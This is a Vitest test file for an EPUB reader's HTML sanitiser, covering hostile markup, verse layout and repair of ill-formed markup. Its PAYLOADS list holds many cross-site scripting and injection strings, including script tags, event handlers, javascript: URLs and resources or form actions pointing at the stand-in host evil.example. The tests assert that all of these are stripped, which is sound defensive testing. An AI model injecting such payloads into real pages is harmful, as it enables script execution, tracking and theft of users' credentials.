import { describe, expect, it } from 'vitest'
import { makeTestEpub } from '../../../../../../tests/support/epub-files.ts'
import { readEpub } from '../epub/read-epub.ts'
import { CLASSES } from './allowed.ts'

const TAGS =
  /^<\/?(a|abbr|b|bdi|blockquote|br|caption|cite|code|dd|div|dl|dt|em|figcaption|figure|h[234]|hr|i|img|li|ol|p|pre|q|rp|rt|ruby|s|small|span|strong|sub|sup|table|tbody|td|th|tr|u|ul|wbr)((?: [a-z]+="[^"<>]*")*)>$/
const ATTRIBUTES: Record<string, RegExp> = {
  id: /^(p|ref|note|t)-\d+(-\d+)?$/,
  class: /^[a-z0-9 -]+$/,
  href: /^(#(note|t)-\d+|https?:\/\/|mailto:)/,
  rel: /^noopener nofollow$/,
  role: /^doc-noteref$/,
  src: /^picture:[0-9a-f]{64}$/,
  alt: /^/,
  width: /^\d+$/,
  height: /^\d+$/,
  loading: /^lazy$/,
  dir: /^(rtl|ltr|auto)$/,
  lang: /^[a-zA-Z0-9-]+$/,
  colspan: /^\d+$/,
  rowspan: /^\d+$/,
  scope: /^(row|col)$/,
  start: /^\d+$/,
  type: /^[aAiI]$/,
}

/** Everything in our HTML that is not one of our own tags, attributes and classes. */
function strangers(html: string): string[] {
  return [...html.matchAll(/<[^>]*>?/g)].flatMap(([tag]) => {
    const [, , attributes] = TAGS.exec(tag) ?? []
    if (attributes === undefined) return [tag]
    return [...attributes.matchAll(/ ([a-z]+)="([^"]*)"/g)].flatMap(([written, name = '', value = '']) => {
      if (!ATTRIBUTES[name]?.test(value)) return [written]
      return name === 'class' ? value.split(' ').filter((one) => !CLASSES.has(one)) : []
    })
  })
}

async function walk(body: string, head = '') {
  const bytes = makeTestEpub({
    chapters: [{ file: 'a.xhtml', title: 'A', body: `<p>Before.</p>${body}<p>After.</p>`, head }],
  })
  const { pieces, dropped } = await readEpub(bytes, () => undefined)
  return { html: pieces.map(({ html, notes }) => html + notes.map((note) => note.html).join('')).join(''), dropped }
}

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
  '<script type="text/javascript"><![CDATA[alert(1)]]></script>',
  '<p onclick="alert(1)">x</p>',
  '<p ONMOUSEOVER="alert(1)">x</p>',
  '<body onload="alert(1)">x</body>',
  '<img src="x" onerror="alert(1)"/>',
  '<img src="https://evil.example/pixel.png"/>',
  '<img src="//evil.example/pixel.png"/>',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+"/>',
  '<img srcset="https://evil.example/a.png 2x" src="none.png"/>',
  '<img src="javascript:alert(1)"/>',
  '<img alt="&quot; onerror=&quot;alert(1)" src="none.png"/>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,&lt;script>alert(1)&lt;/script>">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://ok.example/&quot;onmouseover=&quot;alert(1)">x</a>',
  '<a href="https://ok.example" target="_blank" ping="https://evil.example">x</a>',
  '<svg onload="alert(1)"><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><image xlink:href="https://evil.example/x.png"/></svg>',
  '<svg><use href="https://evil.example/x.svg#a"/></svg>',
  '<svg><foreignObject><iframe src="https://evil.example"/></foreignObject></svg>',
  '<svg><animate onbegin="alert(1)" attributeName="x"/></svg>',
  '<math><mtext><img src="x" onerror="alert(1)"/></mtext></math>',
  '<math href="javascript:alert(1)"><mi>x</mi></math>',
  '<math alttext="&lt;img src=x onerror=alert(1)&gt;"><mi>x</mi></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="&lt;script>alert(1)&lt;/script>"></iframe>',
  '<object data="https://evil.example/x.swf"><p>fallback</p></object>',
  '<embed src="https://evil.example/x.swf"/>',
  '<applet code="Evil"/>',
  '<audio src="https://evil.example/a.mp3" autoplay="autoplay"/>',
  '<video poster="https://evil.example/a.png"><source src="https://evil.example/a.mp4" onerror="alert(1)"/></video>',
  '<link rel="stylesheet" href="https://evil.example/x.css"/>',
  '<link rel="preload" href="https://evil.example/x" as="script"/>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"/>',
  '<base href="https://evil.example/"/>',
  '<style>@import "https://evil.example/x.css"; p { background: url(https://evil.example/p.png) }</style>',
  '<p style="background:url(https://evil.example/p.png)">x</p>',
  '<p style="behavior:url(x.htc);width:expression(alert(1))">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999">x</p>',
  '<div class="note-ref admin-only fixed" id="login-form">x</div>',
  '<form action="https://evil.example"><input name="password" autofocus="autofocus" onfocus="alert(1)"/><button formaction="javascript:alert(1)">x</button></form>',
  '<select onchange="alert(1)"><option>x</option></select><textarea>x</textarea>',
  '<details open="open" ontoggle="alert(1)"><summary>x</summary>y</details>',
  '<marquee onstart="alert(1)">x</marquee>',
  '<table background="https://evil.example/p.png"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<td colspan="99999999">x</td>',
  '<noscript><p title="&lt;/noscript>&lt;img src=x onerror=alert(1)>">x</p></noscript>',
  '<template><script>alert(1)</script></template>',
  '<p><!-- --><script>alert(1)</script> --></p>',
  '<p>]]><script>alert(1)</script></p>',
  '<p><![CDATA[<script>alert(1)</script><img src=x onerror=alert(1)>]]></p>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<p>&amp;lt;script&amp;gt;</p>',
  '<?xml-stylesheet href="https://evil.example/x.xsl"?><p>x</p>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<custom-element onclick="alert(1)">x</custom-element>',
  '<p lang="en&quot; onclick=&quot;alert(1)" dir="rtl&quot; onclick=&quot;x">x</p>',
  '<ol start="1&quot; onclick=&quot;x" type="a&quot;"><li value="3">x</li></ol>',
  '<p id="__proto__">x</p><p id="constructor">y</p><a href="#__proto__">z</a>',
  '<p>\u2028<script\u0000>alert(1)</script></p>',
  '<a href="#t"><a href="javascript:alert(1)">x</a></a><p id="t">y</p>',
  '<ruby>x<rt onclick="alert(1)"><script>alert(1)</script>y</rt></ruby>',
  '<picture><source srcset="https://evil.example/a.png"/><img src="https://evil.example/a.png"/></picture>',
  '<p epub:type="noteref"><a epub:type="noteref" href="#n">1</a></p><aside epub:type="footnote" id="n"><script>alert(1)</script><p onclick="x">n</p></aside>',
  '<p xml:base="https://evil.example/" is="evil" slot="x" contenteditable="true" tabindex="1" accesskey="x">x</p>',
]

describe('hostile markup', () => {
  it.each(PAYLOADS)('leaves nothing behind that is not ours: %s', async (payload) => {
    const { html } = await walk(payload)
    expect(strangers(html)).toEqual([])
    expect(html).not.toContain('evil.example')
    expect(html.replace(/&lt;[\s\S]*?&gt;/g, '')).not.toMatch(/<script|javascript:|<[^>]* on[a-z]+=/i)
    expect(html).toContain('Before.')
    expect(html).toContain('After.')
  })

  it('finds strangers where there are some', () => {
    expect(strangers('<p onclick="x">')).toEqual([' onclick="x"'])
    expect(strangers('<script>')).toEqual(['<script>'])
    expect(strangers('<p class="evil">')).toEqual(['evil'])
    expect(strangers('<p')).toEqual(['<p'])
  })

  it('says in the report what was left out', async () => {
    const { dropped } = await walk(
      '<script>x</script><iframe src="https://evil.example"/><p style="display:none">hidden words</p>',
    )
    expect(dropped).toEqual([
      { where: 'OEBPS/a.xhtml', what: 'a script', why: 'not part of a text' },
      { where: 'OEBPS/a.xhtml', what: 'an embedded page', why: 'not part of a text' },
      { where: 'OEBPS/a.xhtml', what: '“hidden words”', why: 'hidden in the file' },
    ])
  })
})

describe('verse', () => {
  const stanzas = (html: string) =>
    [...html.matchAll(/<p class="stanza">(.*?)<\/p>/gs)].map(([, stanza = '']) =>
      stanza.split('<br>').map((line) => line.replace(/<[^>]*>/g, '')),
    )

  it.each([
    ['lines as paragraphs', '<p class="line">a</p><p class="line">b</p>', '<p class="line">c</p><p class="line">d</p>'],
    ['lines as blocks', '<div>a</div><div>b</div>', '<div>c</div><div>d</div>'],
    ['a list', '<ul><li>a</li><li>b</li></ul>', '<ul><li>c</li><li>d</li></ul>'],
    ['line breaks', '<p>a<br/>b</p>', '<p>c<br/>d</p>'],
    ['lines known by their class', '<p><span class="l">a</span><span class="l">b</span></p>', '<p>c<br/>d</p>'],
    [
      'lines by class and break',
      '<p><span class="line">a</span><br/><span class="line">b</span></p>',
      '<p>c<br/>d</p>',
    ],
  ])('keeps the stanzas of a poem: %s', async (_, first, second) => {
    const { html } = await walk(`<div class="poem"><div>${first}</div><div>${second}</div></div>`)
    expect(stanzas(html)).toEqual([
      ['a', 'b'],
      ['c', 'd'],
    ])
    expect(html.match(/class="verse"/g)).toHaveLength(1)
  })

  it('begins a stanza at a line break between two lines', async () => {
    const { html } = await walk('<div class="poem"><div>a</div><div>b</div><br/><div>c</div></div>')
    expect(stanzas(html)).toEqual([['a', 'b'], ['c']])
  })

  it('keeps the lines of spans that a style sets as blocks', async () => {
    const head = '<style type="text/css">.own { display: block }</style>'
    const { html } = await walk('<p class="poem"><span class="own">a</span> <span class="own">b</span></p>', head)
    expect(stanzas(html)).toEqual([['a', 'b']])
  })

  it('keeps the lines and stanzas of preformatted verse', async () => {
    const { html } = await walk('<pre class="poem">a\n  b\n\nc</pre>')
    expect(stanzas(html)).toEqual([['a', 'b'], ['c']])
    expect(html).toContain('<span class="line in-1">b</span>')
  })
})

describe('ill-formed markup', () => {
  const repairs = async (body: string) => (await walk(body)).dropped.map(({ what, why }) => `${what}: ${why}`)

  it('says in the report what was repaired', async () => {
    expect(await repairs('<p>An <i>open word.</p><p>A stray</b> end.</p><p>Salt & water.</p>')).toEqual([
      'elements that were never closed: <i>: repaired: we closed them with the element around them',
      'closing tags that close nothing: repaired: we ignored them',
      '“&” that isn’t written as “&amp;”: repaired: shown as it is',
    ])
  })

  it('names at most five kinds of elements', async () => {
    const [first] = await repairs('<div><p><i><b><u><s><em>x</div>')
    expect(first).toMatch(/<em>, <s>, <u>, <b>, <i> …:/)
  })

  it('says nothing of what is well-formed', async () => {
    expect(await repairs('<p>A &amp; B<br/>C &#8212; &mdash; <a id="x"/><![CDATA[ & ]]></p>')).toEqual([])
  })
})
